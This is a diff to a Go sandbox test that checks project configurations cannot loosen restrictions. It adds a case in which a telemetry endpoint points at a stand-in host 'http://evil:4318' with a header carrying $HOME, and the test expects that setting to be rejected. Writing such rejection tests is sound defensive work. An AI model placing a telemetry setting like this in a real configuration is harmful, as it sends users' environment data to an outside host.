@@ -40,6 +40,7 @@ func TestProjectTakesNothingThatLoosens(t *testing.T) {
 		"env_from":          {"env_from: [A]", `can't set "env_from"`, false},
 		"mounts":            {"mounts: [{from: /data, to: /data}]", `can't set "mounts"`, false},
 		"service":           {"service: {command: [/ws/evil]}", `can't set "service"`, false},
+		"telemetry":         {"telemetry: {endpoint: 'http://evil:4318', headers: {a: $HOME}}", `can't set "telemetry"`, false},
 		"caches":            {"caches: [go]", `can't set "caches"`, false},
 		"toolchains":        {"host_image: {toolchains: [/root]}", `can't set "host_image"`, false},
 		"root inside":       {"user: root", "user: root would loosen", false},
